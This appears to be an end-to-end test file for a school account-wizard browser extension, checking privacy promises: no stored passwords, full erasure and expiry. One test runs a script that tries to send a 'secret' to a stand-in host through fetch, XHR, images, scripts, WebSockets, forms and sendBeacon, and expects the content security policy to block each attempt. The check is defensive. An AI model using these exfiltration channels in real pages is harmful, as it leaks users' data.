import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { shippedFilters, shippedLetters, shippedMessages } from '../../core/engine/inform/index.ts';
import { readCsv, readJson, testPath } from '../helpers/cli.ts';
import { browserNames, type Browser } from './browsers/browser.ts';
import { startBrowser } from './browsers/index.ts';
import type { View } from './browsers/view.ts';
import { builtExtension, filesOf } from './fixtures.ts';
import { fileToAdd, openWorker, type RealWorker } from './real-worker.ts';
import { button, eraseEverything, waitForStep } from './wizard.ts';

/*
 * What docs/privacy.md promises, looked up in the browser itself: what is kept, what of it is left
 * when it is erased or has expired, and that no page can send anything anywhere.
 */

const lincoln = testPath('scenarios/lincoln-grant');
const createStudents = readJson(join(lincoln, 'requests/T01.json')) as object;
const createStaff = readJson(join(lincoln, 'requests/T28.json')) as object;
const initialPassword = 'Blue-Kite.77';

/** The passwords of T01, typed by hand from the document. */
const byPattern = readCsv(join(lincoln, 'expected/T01/credentials.csv')).map(
  (row) => row['Password']!,
);

/** What a page of the extension tries, to send a word to somebody else; gives what was not refused. */
const sending = `(async () => {
  const there = 'https://elsewhere.example/secret';
  const went = [];
  const tries = {
    fetch: () => window.fetch(there, { mode: 'no-cors' }),
    request: () => new Promise((resolve, reject) => {
      const request = new window.XMLHttpRequest();
      request.onload = resolve;
      request.onerror = reject;
      request.open('GET', there);
      request.send();
    }),
    picture: () => new Promise((resolve, reject) => {
      const picture = new window.Image();
      picture.onload = resolve;
      picture.onerror = reject;
      picture.src = there;
    }),
    script: () => new Promise((resolve, reject) => {
      const script = window.document.createElement('script');
      script.onload = resolve;
      script.onerror = reject;
      script.src = there;
      window.document.head.append(script);
    }),
    style: () => new Promise((resolve, reject) => {
      const link = window.document.createElement('link');
      link.rel = 'stylesheet';
      link.onload = resolve;
      link.onerror = reject;
      link.href = there;
      window.document.head.append(link);
    }),
    socket: () => new Promise((resolve, reject) => {
      const socket = new window.WebSocket('wss://elsewhere.example/');
      socket.onopen = resolve;
      socket.onerror = reject;
    }),
    worker: () => new Promise((resolve, reject) => {
      const worker = new window.Worker(there);
      worker.onmessage = resolve;
      worker.onerror = reject;
    }),
    form: () => new Promise((resolve) => {
      const form = window.document.createElement('form');
      form.action = there;
      form.method = 'post';
      form.target = 'elsewhere';
      window.document.body.append(form);
      window.document.addEventListener('securitypolicyviolation', () => resolve('refused'));
      form.submit();
    }).then(() => Promise.reject(new Error('refused'))),
  };
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      await attempt();
      went.push(name);
    } catch {
      // As it should be.
    }
  }
  window.navigator.sendBeacon(there, 'secret');
  return went;
})()`;

describe.each(browserNames)('%s', (name) => {
  let browser: Browser;
  let worker: RealWorker;
  let tab: View;

  beforeAll(async () => {
    browser = await startBrowser(name, { extension: builtExtension(name) });
    tab = await browser.openView('tab');
    await waitForStep(tab, 'Data');
    worker = await openWorker(browser);
  });
  afterAll(() => browser.close());

  const bring = (folder: string) =>
    worker.answer(
      'addFiles',
      filesOf(folder).map((path) => fileToAdd(path)),
      'file',
    );

  async function save(request: object): Promise<void> {
    const { preview } = (await worker.answer('preview', request)) as {
      preview: { summary: { fingerprint: string } };
    };
    const confirmed = {
      ...{ expect: preview.summary.fingerprint, overrideThreshold: true, credentials: true },
    };
    const answer = await worker.answer('save', request, confirmed);
    expect(JSON.stringify(answer)).toContain('credentials.csv');
  }

  test('no password is kept, whatever is saved, drafted and looked at', async () => {
    await bring(join(lincoln, 'tables'));
    const typed = { ...createStaff, password: { kind: 'initial', value: initialPassword } };
    await save(createStudents);
    await worker.answer('preview', createStudents);
    const ofStudents = JSON.stringify(await worker.kept());
    expect(byPattern).toHaveLength(6);
    for (const password of byPattern) expect(ofStudents).not.toContain(password);
    await worker.answer('eraseEverything');
    await bring(join(lincoln, 'tables-T28'));
    await worker.answer('keepDraft', { step: 'options', request: typed, recipe: '' });
    await worker.answer('saveRecipe', 'New staff', typed);
    await save(typed);
    const kept = JSON.stringify(await worker.kept());
    expect(kept).toContain('New staff');
    expect(kept).not.toContain(initialPassword);
  });

  test('of activation links, only the data itself is kept', async () => {
    await worker.answer('eraseEverything');
    await bring(testPath('scenarios/telling-people'));
    const asked = {
      ...{ filter: shippedFilters[0]!, message: shippedMessages[0]!, letter: null },
      ...{ expirationDate: '2099-09-01', toShared: false, again: true, from: '' },
    };
    const letters = { ...asked, message: null, letter: shippedLetters[0]! };
    await worker.answer('tryOut', asked, 0);
    await worker.answer('makeMessages', asked, 'message files');
    await worker.answer('buildLetters', letters, { from: 0, people: null, language: 'en' });
    await worker.answer('lettersPrinted', letters, null);
    const { files, ...others } = await worker.kept();
    expect(JSON.stringify(files)).toContain('https://sis.s.org/activate/1');
    expect(JSON.stringify(others)).toContain('asmith');
    expect(JSON.stringify(others)).not.toContain('sis.s.org');
  });

  test('no page of the extension can send anything anywhere, the letters as little', async () => {
    // There is somebody who would take it: a refusal is the browser's, not the network's.
    browser.network.serve('elsewhere.example', (_request, response) => {
      response.setHeader('Access-Control-Allow-Origin', '*').end();
    });
    expect(await tab.evaluate(sending)).toEqual([]);
    const letters = await browser.openPage('letters.html?letters=none');
    await letters.waitForText('build them again in the wizard');
    expect(await letters.evaluate(sending)).toEqual([]);
    await letters.close();
    expect(browser.network.requests).toEqual([]);
  });

  test('nothing is left when everything is erased', async () => {
    await tab.show();
    await tab.reload();
    await waitForStep(tab, 'Data');
    await eraseEverything(tab);
    const { meta, ...others } = await worker.kept();
    expect(others).toEqual({ files: {}, kept: {}, records: {}, local: {}, options: {} });
    expect(Object.keys(meta).sort()).toEqual(['counter', 'lastUse']);
  });

  test('nothing is left of what nobody used for as long as it is kept', async () => {
    await bring(join(lincoln, 'tables'));
    await save(createStudents);
    // A choice that no database got, as a page leaves it that is closed in that moment.
    await tab.evaluate(`(window.localStorage.setItem('draft', '{"request":{}}'), null)`);
    await tab.evaluate(`new Promise((resolve) => {
      const opening = window.indexedDB.open('account-batch-wizard');
      opening.onsuccess = () => {
        const transaction = opening.result.transaction('meta', 'readwrite');
        transaction.objectStore('meta').put('2020-01-01', 'lastUse');
        transaction.oncomplete = () => { opening.result.close(); resolve(null); };
      };
    })`);
    await tab.reload();
    await tab.waitForText(/30 days/);
    await tab.waitFor(button(/sample district/i));
    const { meta, ...others } = await worker.kept();
    expect(others).toEqual({ files: {}, kept: {}, records: {}, local: {}, options: {} });
    expect(Object.keys(meta).sort()).toEqual(['counter', 'lastUse']);
    expect(meta['lastUse']).not.toBe('2020-01-01');
  });
});
